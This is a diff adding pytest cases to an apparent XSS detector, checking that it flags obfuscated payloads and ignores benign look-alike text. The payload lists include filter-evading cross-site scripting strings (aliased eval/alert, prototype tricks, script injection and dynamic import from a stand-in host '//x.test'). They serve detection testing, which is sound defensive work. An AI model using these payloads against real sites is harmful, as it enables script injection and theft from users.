@@ -137,3 +137,47 @@ def test_angular_expressions_reaching_code_and_array_methods_called_on_sinks_are
 ) -> None:
     assert "xss" in payload_kinds(query="q=" + quote(value, safe=""))
     assert "xss" not in payload_kinds(query="q=" + quote("{{ item.price }} and [] . map"))
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        "a=eval;b=alert;a(b(1));//",
+        "'};a=eval;b=alert;a(b(13));//",
+        "_=eval,__=unescape,___=document.URL,_(__(___))",
+        "A=alert;A(1)",
+        "x=prompt ; x(document.domain)",
+        "evil=/ev/.source+/al/.source",
+        "top.__proto__._= alert",
+        "document.__parent__._=alert",
+        "with(document)getElementsByTagName('head')[0].appendChild(x)",
+        "createElement('script').src='//x.test'",
+        "(alert)(1)",
+        "[1].find(alert)",
+        "[document.domain].map(prompt)",
+        "import('//x.test/m.js')",
+    ],
+)
+def test_sinks_stored_glued_or_reached_by_prototype_are_xss(value: str) -> None:
+    assert "xss" in _query(value)
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        "priority=alert, status=open",
+        "level=alert; notify(team)",
+        "mode=eval; run(tests)",
+        "see docs/tools/.sources",
+        "the __proto__ property explained",
+        "with (documents) in hand",
+        "createElement('div')",
+        "(alert) (see manual)",
+        "list.find(alerts)",
+        "[1].map(alert_level)",
+        "import (and perhaps wait) from //abroad",
+        "import('./local-module.js')",
+    ],
+)
+def test_notes_near_hidden_sinks_are_not_xss(value: str) -> None:
+    assert "xss" not in _query(value)
